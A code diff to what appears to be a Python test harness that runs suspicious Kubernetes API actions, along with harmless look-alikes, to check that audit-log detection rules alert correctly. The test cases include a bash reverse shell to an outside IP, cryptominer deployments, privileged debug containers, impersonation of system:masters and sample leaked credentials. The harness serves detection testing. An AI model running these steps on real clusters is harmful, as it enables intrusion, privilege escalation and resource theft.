@@ -7,7 +7,7 @@ and for a look-alike, with "quiet": none of these rules (or no rule, for "*") ma
 at Low or above; "calm": no alert of Medium or above may name it."""
 import base64, itertools, json, os, subprocess, sys, tempfile, time
 from client import (KINDS, KUBECTL, KUBECTL_OLD, Client, account, binding, config, create, group, path, place, pod_spec, role, secret, service, user, workload)
-from identities import PETTY, SA, SUSPECTS, suspect_address
+from identities import NODES, PETTY, SA, SUSPECTS, suspect_address
 from setup import crd, namespace, webhook
 
 LABELS = []
@@ -19,6 +19,11 @@ RBAC = 'rbac.authorization.k8s.io'
 def suspect(agent=KUBECTL, **more):
     i = next(COUNT)
     return Client(SUSPECTS[i], suspect_address(i), agent, **more)
+
+
+def helper():
+    """Who prepares what the deeds are done to: the platform itself, which no rule tells."""
+    return Client('aksService', '172.31.28.7', 'addon-manager/v1')
 
 
 def petty(i, **more): return Client(PETTY[i], '20.99.1.%d' % (10 + i), **more)
@@ -126,7 +131,7 @@ def bad_workload(what, way, rule, more, ns='dev'):
             o = workload('Pod' if way == 'applied-pod' else 'Deployment', ns, name, spec)
             return c.apply(place(o), o)
         plain = workload('Deployment', ns, name, pod_spec('fabrikam.azurecr.io/tools:1', 'main'), replicas=0)
-        create(Client('masterclient', '172.31.28.2'), plain)
+        create(helper(), plain)
         if way == 'strategic':
             return c.patch(place(plain), {'spec': {'template': {'spec': spec}}})
         if way == 'merge':
@@ -156,10 +161,10 @@ def workloads():
     deed('volume hostpath applied', 'sensitive-host-path', lambda c: c.apply(path('v1/persistentvolumes', None, 'x-applied'), {'apiVersion': 'v1', 'kind': 'PersistentVolume', 'metadata': {'name': 'x-applied'}, 'spec': {'capacity': {'storage': '1Gi'}, 'accessModes': ['ReadWriteOnce'], 'hostPath': {'path': '/etc/kubernetes'}}}))
     for n, rules in (('hostpid', 'pod-host-pid'), ('privileged', 'privileged-container')):  # to an old workload, by changing one word
         plain = workload('DaemonSet', 'dev', 'y-' + n, pod_spec('fabrikam.azurecr.io/tools:1', 'main', container={'securityContext': {'privileged': False}}, hostPID=False))
-        create(Client('masterclient', '172.31.28.2'), plain)
+        create(helper(), plain)
         op = [{'op': 'add', 'path': '/spec/template/spec/hostPID', 'value': True}] if n == 'hostpid' else [{'op': 'replace', 'path': '/spec/template/spec/containers/0/securityContext/privileged', 'value': True}]
         deed('one word of a DaemonSet: ' + n, rules, lambda c: c.patch(place(plain), op, 'json'))
-    master = Client('masterclient', '172.31.28.2')
+    master = helper()
     pods = [p['metadata']['name'] for p in master.get('/api/v1/namespaces/shop/pods?labelSelector=app%3Dcatalog')[1]['items']]
     debug = {'name': 'dbg', 'image': 'busybox', 'securityContext': {'privileged': True}}
     deed('debug container, strategic', 'debug-container-added', lambda c: c.patch(path('v1/pods', 'shop', pods[0], 'ephemeralcontainers'), {'spec': {'ephemeralContainers': [debug]}}))
@@ -183,7 +188,7 @@ def workloads():
 # Sessions
 
 def sessions():
-    master = Client('masterclient', '172.31.28.2')
+    master = helper()
     name = lambda ns, app: master.get('/api/v1/namespaces/%s/pods?labelSelector=app%%3D%s' % (ns, app))[1]['items'][0]['metadata']['name']
     pod, dns = name('shop', 'frontend'), name('kube-system', 'coredns')
     for label, args, kw in (('WebSocket', ['sh'], {}), ('SPDY', ['bash'], {'spdy': True}), ('with a terminal', ['/bin/sh'], {'tty': True}), ('reverse shell', ['bash', '-c', 'bash -i >& /dev/tcp/185.1.2.3/443 0>&1'], {}),
@@ -249,15 +254,15 @@ def rights():
         'tokens': [([''], ['serviceaccounts/token'], ['create'])], 'bindings': [([RBAC], ['clusterrolebindings', 'rolebindings'], ['create', 'patch'])],
         'approvals': [(['certificates.k8s.io'], ['certificatesigningrequests/approval'], ['update']), (['certificates.k8s.io'], ['signers'], ['approve'])],
         'all of the core': [([''], ['*'], ['*'])], 'ephemeral containers': [([''], ['pods/ephemeralcontainers'], ['patch'])], 'all verbs, one group': [(['*'], ['*'], ['get', 'list', 'create'])],
-        'webhooks': [(['admissionregistration.k8s.io'], ['mutatingwebhookconfigurations'], ['create', 'update'])], 'pods': [([''], ['pods'], ['create'])],
+        'webhooks': [(['admissionregistration.k8s.io'], ['mutatingwebhookconfigurations'], ['create', 'update'])],
         'subresource wildcard': [([''], ['*/exec'], ['*'])],
     }
     for i, (what, rules) in enumerate(wide.items()):
         name = 'wide-%d' % i
         deed('a role for ' + what, 'high-privilege-role', lambda c: create(c, role(name, rules)))
-        if i < 8:
-            deed('a role in a namespace for ' + what, ('high-privilege-role',) if what in ('everything', 'escalate', 'bind', 'all verbs of secrets', 'impersonate accounts', 'impersonate', 'all of the core') else ('high-privilege-role', 'request-refused-by-rbac', 'info'), lambda c: create(c, role(name, rules, 'team-a')))
-    small = lambda nm: create(Client('masterclient', '172.31.28.2'), role(nm, [([''], ['configmaps'], ['get'])]))
+        if what in ('everything', 'escalate', 'bind', 'tokens', 'bindings'):
+            deed('a role in a namespace for ' + what, 'high-privilege-role', lambda c: create(c, role(name, rules, 'team-a')))
+    small = lambda nm: create(helper(), role(nm, [([''], ['configmaps'], ['get'])]))
     for how in ('strategic', 'merge', 'json', 'apply', 'put'):
         nm = 'grown-' + how
         small(nm)
@@ -269,7 +274,7 @@ def rights():
     small('grown-verb')
     deed('a verb more, JSON patch', 'high-privilege-role', lambda c: c.patch(path(KINDS['ClusterRole'], None, 'grown-verb'), [{'op': 'add', 'path': '/rules/0/verbs/-', 'value': '*'}, {'op': 'add', 'path': '/rules/0/resources/-', 'value': 'secrets'}], 'json'))
     deed('aggregated into view', 'role-aggregated', lambda c: create(c, role('agg-1', [([''], ['secrets'], ['get', 'list'])], labels={RBAC + '/aggregate-to-view': 'true'})))
-    deed('aggregated into admin by a label', 'role-aggregated', lambda c: (create(Client('masterclient', '172.31.28.2'), role('agg-2', [([''], ['pods/exec', 'secrets'], ['*'])])), c.patch(path(KINDS['ClusterRole'], None, 'agg-2'), {'metadata': {'labels': {RBAC + '/aggregate-to-edit': 'true'}}}, 'merge'))[1])
+    deed('aggregated into admin by a label', 'role-aggregated', lambda c: (create(helper(), role('agg-2', [([''], ['pods/exec', 'secrets'], ['*'])])), c.patch(path(KINDS['ClusterRole'], None, 'agg-2'), {'metadata': {'labels': {RBAC + '/aggregate-to-edit': 'true'}}}, 'merge'))[1])
     deed('a system role changed', ('system-role-changed', 'high-privilege-role'), lambda c: c.patch(path(KINDS['ClusterRole'], None, 'system:discovery'), [{'op': 'add', 'path': '/rules/-', 'value': {'apiGroups': [''], 'resources': ['secrets'], 'verbs': ['get']}}], 'json'))
     deed('the view role changed', ('system-role-changed', 'high-privilege-role'), lambda c: c.patch(path(KINDS['ClusterRole'], None, 'view'), {'aggregationRule': {'clusterRoleSelectors': [{'matchLabels': {'x': 'y'}}]}}, 'merge'))
     for i, what in enumerate(('clusterrolebindings', 'rolebindings')):
@@ -284,7 +289,7 @@ def rights():
     c = petty(1, headers={'Impersonate-User': 'system:admin', 'Impersonate-Group': 'system:masters'})
     deed('impersonation is refused', 'impersonation-used', lambda c: (c.get('/api/v1/secrets'), None)[1], c)
     # look-alikes
-    create(Client('masterclient', '172.31.28.2'), role('cluster-admin', [([''], ['configmaps'], ['get'])], 'team-a'))
+    create(helper(), role('cluster-admin', [([''], ['configmaps'], ['get'])], 'team-a'))
     quiet('a Role that is called cluster-admin', ['cluster-admin-binding'], lambda c: create(c, binding('local-admin', 'cluster-admin', [user('x@fabrikam.com')], 'team-a', 'Role')))
     quiet('a role to read ConfigMaps', '*', lambda c: create(c, role('small-%s' % c.user[:10], [([''], ['configmaps', 'pods'], ['get', 'list', 'watch'])], 'team-a')))
     quiet('a binding to view for a person', ['cluster-admin-binding', 'role-bound-to-everyone'], lambda c: create(c, binding('view-x', 'view', [user('y@fabrikam.com')], 'team-a')))
@@ -343,9 +348,9 @@ def secrets():
         o['metadata']['generateName'] = 'portal-token-'
         return c.post(path('v1/secrets', 'web'), o)
     deed('token as a Secret, generateName', 'long-lived-service-account-token', generated)
-    deed('pull secret', 'pull-secret-read', lambda c: (c.get(path('v1/secrets', 'shop', 'acr-pull-secret')), create(Client('masterclient', '172.31.28.2'), secret('shop', 'regcred', a='b')), c.get(path('v1/secrets', 'shop', 'regcred')))[-1])
+    deed('pull secret', 'pull-secret-read', lambda c: (c.get(path('v1/secrets', 'shop', 'acr-pull-secret')), create(helper(), secret('shop', 'regcred', a='b')), c.get(path('v1/secrets', 'shop', 'regcred')))[-1])
     creds = 'db.user=app\ndb.password=Sup3rS3cret!\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIEXAMPLEKEY\n'
-    create(Client('masterclient', '172.31.28.2'), config('dev', 'legacy', properties=creds))
+    create(helper(), config('dev', 'legacy', properties=creds))
     deed('credentials in a ConfigMap read', 'configmap-credentials', lambda c: c.get(path('v1/configmaps', 'dev', 'legacy')))
     deed('credentials into a ConfigMap', 'configmap-credentials', lambda c: create(c, config('dev', 'fresh', env=creds)))
     deed('credentials into a ConfigMap, patched', 'configmap-credentials', lambda c: c.patch(path('v1/configmaps', 'web', 'app-config'), {'data': {'DB_PASSWORD': 'hunter2hunter2'}}, 'merge'))
@@ -367,7 +372,7 @@ def exposure():
     for rule, change in (('service-node-port', {'type': 'NodePort'}), ('service-load-balancer', {'type': 'LoadBalancer'}), ('service-external-ips', {'externalIPs': ['203.0.113.9']})):
         for how in ('strategic', 'merge', 'json', 'apply', 'put'):
             nm = new()
-            create(Client('masterclient', '172.31.28.2'), service('web', nm))
+            create(helper(), service('web', nm))
             p = path('v1/services', 'web', nm)
             deed('%s by %s' % (rule, how), rule, {'strategic': lambda c: c.patch(p, {'spec': change}), 'merge': lambda c: c.patch(p, {'spec': change}, 'merge'),
                  'json': lambda c: c.patch(p, [{'op': 'add', 'path': '/spec/' + k, 'value': v} for k, v in change.items()], 'json'), 'apply': lambda c: c.apply(p, service('web', nm, **change)),
@@ -392,13 +397,21 @@ def exposure():
     for i, h in enumerate(({'X-Forwarded-For': '10.224.0.4'}, {'X-Real-Ip': '10.0.0.9'}, {'X-Forwarded-For': '1.2.3.4, 5.6.7.8'})):
         deed('forged address %d' % i, 'forwarded-address-forged', lambda c: c.get('/api/v1/namespaces/shop/pods'), suspect(headers=h))
     anon = lambda agent: Client('', '20.77.1.%d' % (5 + len(agent)), agent, '')
-    create(Client('masterclient', '172.31.28.2'), binding('anon-reads', 'view', [group('system:unauthenticated')], 'shop'))
+    create(helper(), binding('anon-reads', 'view', [group('system:unauthenticated')], 'shop'))
+    time.sleep(2)  # until the API server knows of it
     deed('nobody reads', 'anonymous-request-permitted', lambda c: c.get('/api/v1/namespaces/shop/pods'), anon(CURL))
     deed('nobody reads, Python', 'anonymous-request-permitted', lambda c: c.get('/api/v1/namespaces/shop/configmaps'), anon(PYTHON))
     for i, (p, m) in enumerate(((path('authorization.k8s.io/v1/selfsubjectrulesreviews'), {'apiVersion': 'authorization.k8s.io/v1', 'kind': 'SelfSubjectRulesReview', 'spec': {'namespace': 'shop'}}),
                                 (path('authorization.k8s.io/v1/selfsubjectaccessreviews'), {'apiVersion': 'authorization.k8s.io/v1', 'kind': 'SelfSubjectAccessReview', 'spec': {'resourceAttributes': {'verb': '*', 'resource': '*'}}}),
                                 (path('authentication.k8s.io/v1/selfsubjectreviews'), {'apiVersion': 'authentication.k8s.io/v1', 'kind': 'SelfSubjectReview'}))):
         deed('what may I do %d' % i, 'self-subject-review', lambda c: c.post(p, m), Client(SA + 'shop:ledger', '10.244.0.%d' % (90 + i), (KUBECTL, CURL, GO)[i]))
+    node = lambda ip, agent: Client(NODES[1], ip, agent)
+    deed('a node asks what it may do', 'self-subject-review', lambda c: c.post(path('authorization.k8s.io/v1/selfsubjectrulesreviews'), {'apiVersion': 'authorization.k8s.io/v1', 'kind': 'SelfSubjectRulesReview', 'spec': {'namespace': 'shop'}}), node('10.224.0.5', KUBECTL))
+    deed('a node\'s credential outside', 'node-credential-misused', lambda c: c.get('/api/v1/nodes/aks-nodepool1-31415926-vmss000001'), node('20.67.1.1', 'kubelet/v1.35.4 (linux/amd64) kubernetes/dogwatch'))
+    deed('a node\'s credential outside, curl', 'node-credential-misused', lambda c: (c.get('/api/v1/pods?fieldSelector=spec.nodeName%3Daks-nodepool1-31415926-vmss000001'), None)[1], node('20.67.1.2', CURL))
+    deed('a node\'s credential inside, kubectl', 'node-credential-misused', lambda c: (c.get('/api/v1/secrets'), None)[1], node('10.224.0.5', KUBECTL))
+    deed('a node mints tokens by hand', ('service-account-token-minted', 'node-credential-misused'), lambda c: (c.post(path('v1/serviceaccounts', 'shop', 'frontend', 'token'), {'apiVersion': 'authentication.k8s.io/v1', 'kind': 'TokenRequest', 'spec': {}}), None)[1], node('10.224.0.5', KUBECTL))
+    deed('the scheduler\'s name by hand', 'control-plane-identity-misused', lambda c: (c.get('/api/v1/namespaces/kube-system/pods'), None)[1], Client('system:gcp-controller-manager', '20.67.1.3', KUBECTL))
     quiet('a label on an old LoadBalancer', '*', lambda c: c.patch(path('v1/services', 'web', 'old-lb'), {'metadata': {'labels': {'x': 'y'}}}))
     quiet('an old NodePort put back', '*', lambda c: c.update(path('v1/services', 'web', 'old-nodeport'), lambda o: o['metadata'].setdefault('annotations', {}).update(a='b')))
     quiet('a ClusterIP service', '*', lambda c: create(c, service('web', new())))
@@ -463,10 +476,10 @@ def control():
     for i, a in enumerate(args):
         deed('miner by arguments %d' % i, 'miner-deployed', lambda c: create(c, workload(('Deployment', 'DaemonSet', 'Job')[i], 'dev', 'ma-%d' % i, pod_spec('fabrikam.azurecr.io/worker:1', container={'args': a} if i else {'command': ['/app'] + a}))))
     deed('miner by environment', 'miner-deployed', lambda c: create(c, workload('Deployment', 'dev', 'me', pod_spec('fabrikam.azurecr.io/worker:1', container={'env': [{'name': 'POOL', 'value': 'stratum+tcp://x.example:4444'}]}))))
-    create(Client('masterclient', '172.31.28.2'), workload('Deployment', 'dev', 'victim', pod_spec('fabrikam.azurecr.io/a:1')))
+    create(helper(), workload('Deployment', 'dev', 'victim', pod_spec('fabrikam.azurecr.io/a:1')))
     deed('miner by a patch of arguments', 'miner-deployed', lambda c: c.patch(path('apps/v1/deployments', 'dev', 'victim'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args', 'value': ['-o', 'stratum+tcp://a.example:1']}], 'json'))
     deed('miner by a debug container', ('miner-deployed',), lambda c: c.patch(path('v1/pods', 'data', 'redis-0', 'ephemeralcontainers'), {'spec': {'ephemeralContainers': [{'name': 'z', 'image': 'xmrig/xmrig'}]}}))
-    for i, img in enumerate(('evil.example.net/app:1', 'evil.example.net:5000/app', 'ghcr.io/evil/app@sha256:' + 'b' * 64, 'evil/app', '6.6.6.6/app:2')):
+    for i, img in enumerate(('evil.example.net/app:1', 'evil.example.net:5000/app', 'ghcr.io/evil/app@sha256:' + 'b' * 64, 'evil/app', 'docker.io/evil/app', 'nginx', '6.6.6.6/app:2')):
         deed('untrusted ' + img, 'untrusted-image', lambda c: create(c, workload('Deployment', 'dev', 'u-%d' % i, pod_spec(img))))
     deed('untrusted, set image', 'untrusted-image', lambda c: c.patch(path('apps/v1/deployments', 'dev', 'victim'), {'spec': {'template': {'spec': {'containers': [{'name': 'app', 'image': 'evil.example.net/b:2'}]}}}}))
     deed('untrusted, init container', 'untrusted-image', lambda c: create(c, workload('Job', 'dev', 'ui', pod_spec('fabrikam.azurecr.io/a:1', initContainers=[{'name': 'i', 'image': 'evil.example.net/i:1'}]))))
@@ -509,11 +522,11 @@ def nodes_and_deletions():
     deed('cordon, strategic', 'node-cordoned', lambda c: c.patch(p, {'spec': {'unschedulable': True}}))
     deed('taint, JSON patch', 'node-cordoned', lambda c: c.patch(p, [{'op': 'add', 'path': '/spec/taints', 'value': [taint('NoSchedule')]}], 'json'))
     deed('taint, NoExecute by PUT', 'node-cordoned', lambda c: c.update(p, lambda o: o['spec'].setdefault('taints', []).append(taint('NoExecute'))))
-    Client('masterclient', '172.31.28.2').patch(p, {'spec': {'unschedulable': None, 'taints': None}}, 'merge')
+    helper().patch(p, {'spec': {'unschedulable': None, 'taints': None}}, 'merge')
     deed('cordon, JSON patch', 'node-cordoned', lambda c: c.patch(p, [{'op': 'add', 'path': '/spec/unschedulable', 'value': True}], 'json'))
-    Client('masterclient', '172.31.28.2').patch(p, {'spec': {'unschedulable': None}}, 'merge')
+    helper().patch(p, {'spec': {'unschedulable': None}}, 'merge')
     deed('cordon, merge', 'node-cordoned', lambda c: c.patch(p, {'spec': {'unschedulable': True}}, 'merge'))
-    Client('masterclient', '172.31.28.2').patch(p, {'spec': {'unschedulable': None}}, 'merge')
+    helper().patch(p, {'spec': {'unschedulable': None}}, 'merge')
 
     def drain(c):
         _, l = c.get('/api/v1/namespaces/web/pods')
@@ -522,7 +535,7 @@ def nodes_and_deletions():
             ns, n = pod['metadata']['namespace'], pod['metadata']['name']
             c.post(path('v1/pods', ns, n, 'eviction'), {'apiVersion': 'policy/v1', 'kind': 'Eviction', 'metadata': {'name': n, 'namespace': ns}})
     deed('drained', 'pods-evicted', drain)
-    master = Client('masterclient', '172.31.28.2')
+    master = helper()
     for i in range(3):
         master.post('/api/v1/nodes', {'apiVersion': 'v1', 'kind': 'Node', 'metadata': {'name': 'spare-%d' % i, 'labels': {'spare': 'yes'}}})
     deed('node deleted', 'node-deleted', lambda c: c.delete('/api/v1/nodes/spare-0'))
